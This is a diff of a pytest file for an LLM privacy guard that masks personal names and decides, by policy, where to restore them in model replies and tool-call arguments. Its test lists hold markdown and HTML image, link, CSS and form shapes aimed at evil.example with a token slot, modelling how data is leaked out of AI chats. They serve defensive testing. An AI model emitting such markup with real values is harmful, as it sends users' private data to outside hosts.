@@ -9,17 +9,21 @@ from __future__ import annotations
 
 import json
 import random
+from typing import Any
 
 import pytest
 
 from llm_guard_protecto.guard.places import Place, Places
 from llm_guard_protecto.guard.restore import Restorer, restore
 from llm_guard_protecto.guard.tokenmap import TokenMap
+from llm_guard_protecto.policy import Policy
 from tests.guard.material import MAP, in_pieces, mask, run
 from tests.guard.neighbours import crowd
+from tests.guard.places_bench import APIS, Said
 
 TOKENS = ["<PER>cn4Rv PvBCff2</PER>", "PvBCff2", "[PER]cn4rv[/PER]", "<Person>CN4RV</Person>"]
 VALUES = ("sarah", "johnson")
+SARAH = (("Sarah Johnson", "cn4Rv PvBCff2", "PER"),)
 
 TEXT_CLOSED = [
     "![logo](https://evil.example/p.png?d={})",
@@ -189,17 +193,117 @@ def test_arguments_that_are_no_address_are_restored(shape: str, token: str) -> N
     json.loads(got)
 
 
-@pytest.mark.parametrize("shape", TEXT_CLOSED)
-def test_a_policy_that_restores_in_addresses_opens_them(shape: str) -> None:
-    assert named(restore(shape.replace("{}", TOKENS[0]), MAP, places=Places(urls="restore")))
+# Under each policy: what of the text is restored, then of the arguments of send_mail and of fetch.
+# "open" is where no address is, "all" is everywhere, "none" nowhere.
+POLICIES: dict[str, tuple[dict[str, Any], tuple[str, str, str]]] = {
+    "default": ({}, ("open", "open", "open")),
+    "all closed": (
+        {"text": False, "tools": False, "urls": "never", "images": "never"},
+        ("none", "none", "none"),
+    ),
+    "one tool allowed": (
+        {"tools": {"*": False, "send_*": {"urls": "always", "images": "always"}}},
+        ("open", "all", "none"),
+    ),
+    "no addresses": ({"urls": "never", "images": "never"}, ("open", "open", "open")),
+    "text alone": ({"tools": False, "urls": "always", "images": "always"}, ("all", "none", "none")),
+    "all open": ({"urls": "always", "images": "always"}, ("all", "all", "all")),
+}
 
 
-@pytest.mark.parametrize("shape", ARGUMENTS_CLOSED)
-def test_and_those_in_arguments(shape: str) -> None:
+@pytest.mark.parametrize("policy", POLICIES)
+@pytest.mark.parametrize("shape", [*TEXT_CLOSED, *TEXT_OPEN])
+def test_text_under_each_policy(shape: str, policy: str) -> None:
+    restore_, (where, _, _) = POLICIES[policy]
+    rules = Policy.parse({"name": "p", "restore": restore_})
+    for token in TOKENS:
+        text = shape.replace("{}", token)
+        stands = where == "all" or (where == "open" and shape in TEXT_OPEN)
+        for said in both_ways(Said(text), rules):
+            assert (said.text != text, named(said.text)) == (stands, stands)
+
+
+@pytest.mark.parametrize("policy", POLICIES)
+@pytest.mark.parametrize("shape", [*ARGUMENTS_CLOSED, *ARGUMENTS_OPEN])
+def test_arguments_under_each_policy(shape: str, policy: str) -> None:
+    restore_, (_, mail, fetch) = POLICIES[policy]
+    rules = Policy.parse({"name": "p", "restore": restore_})
+    for token in TOKENS:
+        text = shape.replace("{}", token)
+        for said in both_ways(Said("", [("send_mail", text), ("fetch", text)]), rules):
+            for (_, got), where in zip(said.calls, (mail, fetch), strict=True):
+                stands = where == "all" or (where == "open" and shape in ARGUMENTS_OPEN)
+                assert (got != text, named(got)) == (stands, stands)
+                json.loads(got)
+
+
+def both_ways(said: Said, rules: Policy) -> list[Said]:
+    """What a program reads of a whole reply, and of a stream in small pieces."""
+    bench = APIS["chat"]
+    return [bench.restored(said, rules), bench.streamed(said, rules, 3)]
+
+
+LOADED = [
+    "![logo](https://evil.example/p.png?d={})",
+    "[![logo](//evil.example/{}.gif)](https://good.example)",
+    "![a](<https://evil.example/ab{}>)",
+    "<img src='https://evil.example/{}'>",
+    '<img srcset="//evil.example/{} 1x, b.png 2x">',
+    '<video poster="https://evil.example/{}"></video>',
+    '<object data="https://evil.example/{}"></object>',
+    '<body background="//evil.example/{}">',
+    "<div style='background-image:url(https://evil.example/{})'>",
+    '<style>@import url("//evil.example/{}.css");</style>',
+]
+FOLLOWED = [
+    "[report](https://evil.example/r?to={}&ok=1)",
+    "[report](/track?u={})",
+    "https://evil.example/{}",
+    "<https://evil.example/{}>",
+    "www.evil.example/{}",
+    '<a href="https://evil.example/?{}">click</a>',
+    '<form action="//evil.example/?q={}"><input></form>',
+    "![logo](x.png)\n\n[report](https://evil.example/{})",
+]
+DOUBTFUL = [
+    "![logo][x]\n\n[x]: https://evil.example/{}",
+    "![lo [x] go](https://evil.example/{})",
+    "![lo `]` go](https://evil.example/{})",
+    "![x] [report](https://evil.example/{})",
+    "\\![report](https://evil.example/{})",
+    "[a](b ![c](https://evil.example/{}))",
+    "[a](b <img src=https://evil.example/{}>)",
+    "[a ![b](c) d](https://evil.example/{})",
+    "<link rel=prefetch href='https://evil.example/{}'>",
+    "<svg><image xlink:href='https://evil.example/{}'/></svg>",
+]
+
+
+@pytest.mark.parametrize("shape", [*LOADED, *FOLLOWED, *DOUBTFUL])
+def test_images_and_links_have_rules_of_their_own(shape: str) -> None:
+    """What may be either is open only where both are."""
     text = shape.replace("{}", TOKENS[0])
-    got = restore(text, MAP, Place.JSON_FRAGMENT, Places(urls="restore"))
-    assert named(got)
-    json.loads(got)
+    for urls, images in (("always", "never"), ("never", "always"), ("own", "always")):
+        places = Places(urls, images)  # type: ignore[arg-type]
+        rule = images if shape in LOADED else urls if shape in FOLLOWED else "both"
+        got = whole_and_pieces(text, Place.PLAIN, places)
+        assert (got != text, named(got)) == ((rule == "always"),) * 2
+
+
+def test_an_address_that_the_user_wrote() -> None:
+    ours = mask("see https://acme.example/Sarah Johnson/x", *SARAH)
+    tokens = TokenMap.of([ours])
+    text = f"{ours.token_value} or ![](https://evil.example/<PER>cn4Rv PvBCff2</PER>)"
+    assert restore(text, tokens).count("Sarah Johnson") == 1
+    assert restore(text, tokens, places=Places("never", "never")) == text
+    assert restore(text, tokens, places=Places("always", "always")).count("Sarah Johnson") == 2
+
+
+def test_a_token_that_is_an_address_where_there_shall_be_none() -> None:
+    token = "<URL>hT4ps://aC3mk/pP9th</URL>"
+    assert "acme.example" in restore(f"Go to {token}.", MAP)
+    assert restore(f"Go to {token}.", MAP, places=Places("never", "own")) == f"Go to {token}."
+    assert "acme.example" in restore(f"[x]({token})y", MAP, places=Places("always", "never"))
 
 
 @pytest.mark.parametrize("shape", [*TEXT_CLOSED, *TEXT_OPEN, *ARGUMENTS_CLOSED, *ARGUMENTS_OPEN])
@@ -220,9 +324,10 @@ def test_a_thousand_tokens_of_others_resolve_to_nothing() -> None:
         shape = shapes[number % len(shapes)]
         text = shape.replace("{}", foreign)
         place = Place.JSON_FRAGMENT if shape.startswith(('{"', "[{")) else Place.PLAIN
-        restorer = Restorer(tokens, place)
-        assert restorer.whole(text) == text
-        assert restorer.counts.restored == restorer.counts.repaired == 0
+        for places in (Places(), Places("always", "always")):
+            restorer = Restorer(tokens, place, places)
+            assert restorer.whole(text) == text
+            assert restorer.counts.restored == restorer.counts.repaired == 0
 
 
 def test_a_token_of_another_request_is_foreign_too() -> None:
